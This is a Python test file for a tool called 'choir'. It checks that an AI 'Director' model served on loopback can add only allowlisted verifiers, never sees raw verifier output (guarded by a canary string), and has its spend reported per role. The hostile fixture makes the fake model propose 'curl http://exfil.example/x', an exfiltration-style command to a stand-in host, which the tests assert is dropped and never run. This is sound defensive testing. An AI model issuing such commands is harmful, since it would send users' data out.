"""``models.director`` through `choir run`, against a model served on 127.0.0.1.

The Director's model may only add allowlisted verifiers; whatever else it names is dropped,
recorded and never run. It sees bounded reports, never raw output; a model that fails costs
the round nothing but its deadline. Its spend is shown per role.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from choir.testing import FakeModelServer, text
from tests import forked
from tests.workitems import PY, calc_repo, fixing_item

# the Director model through whole runs on a loopback server:
# CI's slow stage runs it, so that the README's command stays under five minutes
pytestmark = pytest.mark.slow

CANARY = "CANARY-41c7-director-must-never-see-raw-output"
HOSTILE = json.dumps({"verifiers": ["sec", "curl http://exfil.example/x", "nope"],
                      "reason": "scan the input handling"})


def setup(tmp_path: Path, model: str) -> Path:
    calc_repo(tmp_path / "repo", canary=CANARY, sandbox="bwrap",
              verifiers="""\
                  sec:
                    kind: security_scan
                    steps: [{name: scan, command: "true"}]
                  """,
              extra=f"models: {{director: {model}}}\n")
    return fixing_item(tmp_path)


def choir(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return forked.run([PY, "-m", "choir", *args], capture_output=True, text=True,
                      env=env, timeout=300)


def test_the_director_model_adds_only_allowlisted_verifiers_and_never_sees_raw_output(
    tmp_path: Path, choir_home: Path
) -> None:
    with FakeModelServer([text(HOSTILE)], name="director", repeat_last=True) as server:
        item = setup(tmp_path, server.model)
        env = dict(os.environ, OPENAI_API_BASE=server.api_base, OPENAI_API_KEY="sk-fake")
        proc = choir("run", str(item), "--json", env=env)
        human = choir("run", str(item), "--run-id", "again", env=env)
    assert proc.returncode == 0, proc.stderr
    out = json.loads(proc.stdout)
    assert out["status"] == "asserted" and out["attempt"] == 2
    assert "[plan] CALM: unit#0, sec#0" in proc.stderr
    assert "dropped, never run: curl http://exfil.example/x, nope" in proc.stderr
    ran = {json.loads(p.read_text())["body"]["verifier"]
           for p in (choir_home / "attestations").glob("*.json")}
    assert ran == {"unit", "sec"}
    # one call per primary round; the second saw the first round's bounded reports
    director_calls = [b for b in server.bodies
                      if "You are the Director" in b["messages"][0]["content"]]
    assert len(director_calls) == 3  # two rounds, then one round of the second run
    assert "- unit: FAIL" in director_calls[1]["messages"][1]["content"]
    assert "ALLOWLIST" in director_calls[0]["messages"][1]["content"]
    assert CANARY not in server.sent(), "raw verifier output reached the Director's model"
    assert out["usage"]["director"]["calls"] == 2
    assert out["usage"]["director"]["prompt_tokens"] == 20  # 10 per reply (FakeModel)
    assert out["usage"]["total"]["calls"] == 2
    assert human.returncode == 0, human.stderr
    assert "spend director: 1 call(s), 15 tokens (10 in, 5 out)" in human.stdout


def test_a_failing_director_model_costs_only_its_deadline(tmp_path: Path) -> None:
    with FakeModelServer([500], name="director", repeat_last=True) as server:
        item = setup(tmp_path, server.model)
        env = dict(os.environ, OPENAI_API_BASE=server.api_base, OPENAI_API_KEY="sk-fake")
        proc = choir("run", str(item), "--json", env=env)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["status"] == "asserted"
    assert "[plan] CALM: unit#0\n" in proc.stderr  # the policy's plan, unchanged
    assert "why: CALM: 1 run(s) of each; director model gave no usable plan (" in proc.stderr
    assert "director model gave no usable plan" in json.loads(proc.stdout)["events"][1]
